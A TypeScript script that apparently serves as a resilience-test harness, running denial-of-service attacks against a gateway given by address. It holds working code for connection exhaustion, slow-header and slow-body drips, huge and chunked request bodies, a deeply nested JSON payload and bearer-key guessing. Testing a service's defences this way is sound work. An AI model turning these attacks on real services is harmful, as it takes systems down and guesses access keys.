import { connect, type Socket } from 'node:net'
import { constants, setPriority } from 'node:os'
import { setTimeout as pause } from 'node:timers/promises'
import { Pool } from 'undici'

/**
 * A process that attacks the gateway at an address, as hard as it is told, until it is ended. It says when it is in
 * full swing. It gives way to the gateway: attackers have machines of their own.
 */
setPriority(constants.priority.PRIORITY_LOW)

const MEGABYTE = 1_000_000
const BYTES_PER_SECOND = 125 * MEGABYTE
const [attack = '', origin = '', strengthText = '', key = ''] = process.argv.slice(2)
const strength = Number(strengthText)
const { hostname, port } = new URL(origin)
const WEBHOOK = 'POST /v1/webhooks/signed HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n'

/** Says that the attack is in full swing. */
function announce(): void {
  process.stdout.write('attacking\n')
}

/** Holds so many connections, and opens another for each that is closed. What is sent first is given. */
function hold(begin: string, onOpen: (socket: Socket) => void = () => undefined): void {
  let opened = 0
  const open = () => {
    const socket = connect(Number(port), hostname)
    socket.on('connect', () => {
      if (begin !== '') socket.write(begin)
      onOpen(socket)
      if (++opened === strength) announce()
    })
    socket.on('error', () => undefined)
    socket.on('close', () => setTimeout(open, 100))
    socket.resume()
  }
  for (let n = 0; n < strength; n++) setTimeout(open, n / 5)
}

/** Sends one more byte a second on every connection. */
function drip(begin: string, byte: string): void {
  hold(begin, (socket) => {
    const timer = setInterval(() => socket.write(byte), 1_000)
    socket.on('close', () => {
      clearInterval(timer)
    })
  })
}

/** Sends 200 MB after the other on so many connections, declared or in chunks, as far as it is let: all that 1 Gbit/s can carry. */
function sendLargeBodies(): void {
  const everyMs = (MEGABYTE * strength * 1_000) / BYTES_PER_SECOND
  const chunk = Buffer.concat([
    Buffer.from(`${MEGABYTE.toString(16)}\r\n`),
    Buffer.alloc(MEGABYTE, ' '),
    Buffer.from('\r\n')
  ])
  const send = (length: string) => {
    const socket = connect(Number(port), hostname)
    socket.write(`${WEBHOOK}${length}\r\n\r\n`)
    let sent = 0
    const timer = setInterval(() => {
      if (sent >= 200 || socket.writableLength > chunk.length) return
      socket.write(chunk)
      sent++
    }, everyMs)
    socket.on('error', () => undefined)
    socket.on('close', () => {
      clearInterval(timer)
      setTimeout(send, everyMs, length)
    })
    socket.resume()
  }
  for (let n = 0; n < strength; n++)
    send(n % 2 === 0 ? `Content-Length: ${200 * MEGABYTE}` : 'Transfer-Encoding: chunked')
  announce()
}

/** Sends `strength` requests a second, whatever becomes of those before. */
async function ask(path: string, headers: () => Record<string, string>, body?: string): Promise<void> {
  const pool = new Pool(origin, { connections: 50 })
  const began = performance.now()
  announce()
  for (let sent = 0; ;) {
    while (sent < ((performance.now() - began) / 1_000) * strength) {
      sent++
      void pool
        .request({
          path,
          method: body === undefined ? 'GET' : 'POST',
          headers: headers(),
          ...(body === undefined ? {} : { body })
        })
        .then((answer) => answer.body.dump())
        .catch(() => undefined)
    }
    await pause(2)
  }
}

const json = () => ({ 'content-type': 'application/json', authorization: `Bearer ${key}` })
const ATTACKS: Readonly<Record<string, () => unknown>> = {
  idle: () => {
    hold('')
  },
  slow_headers: () => {
    drip('GET /v1/fields HTTP/1.1\r\nHost: gateway\r\nX-A: ', 'a')
  },
  slow_bodies: () => {
    drip(`${WEBHOOK}Content-Length: 10000\r\n\r\n`, ' ')
  },
  large_bodies: sendLargeBodies,
  deep_json: () => ask('/v1/leads/batch-update', json, '['.repeat(MEGABYTE)),
  key_guessing: () => ask('/v1/fields', () => ({ authorization: `Bearer guess-${Math.random()}` }))
}
await ATTACKS[attack]?.()
